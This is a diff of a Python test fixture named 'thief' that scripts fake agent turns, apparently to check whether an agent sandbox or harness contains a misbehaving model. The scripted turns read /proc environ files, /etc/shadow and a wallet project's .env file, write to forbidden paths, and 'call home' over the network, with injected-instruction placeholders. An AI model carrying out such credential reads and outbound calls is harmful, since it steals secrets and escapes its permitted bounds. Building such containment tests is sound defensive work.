@@ -146,10 +146,7 @@ def thief(listeners: Listeners, place: Path, tripwire: Path) -> RecordedAnswers:
     forbidden = " && ".join(f"mkdir -p $(dirname {path}) && echo x > {path}" for path in FORBIDDEN)
     return (
         RecordedAnswers()
-        .plan(
-            INJECTED, steps=[INJECTED], hypotheses=[INJECTED], reproduce=f"true\n{INJECTED}", candidate_files=["@ada"]
-        )
-        .specify(wallet_project.SPECIFICATION, *wallet_project.SPECIFIED)
+        .plan(INJECTED, examples=wallet_project.EXAMPLES, steps=[INJECTED], files=["@ada"])
         .turn(READ, bash(READ), view("/proc/self/environ"), view("/proc/1/environ"), view("/etc/shadow"))
         .turn("Look around.", bash(LOOK.format(place=place)), view(f"{place}/wallet/.env"))
         .turn("Call home.", bash(f"python3 - <<'END'\n{connect}\nEND"), bash("curl -sS https://example.com; echo $?"))
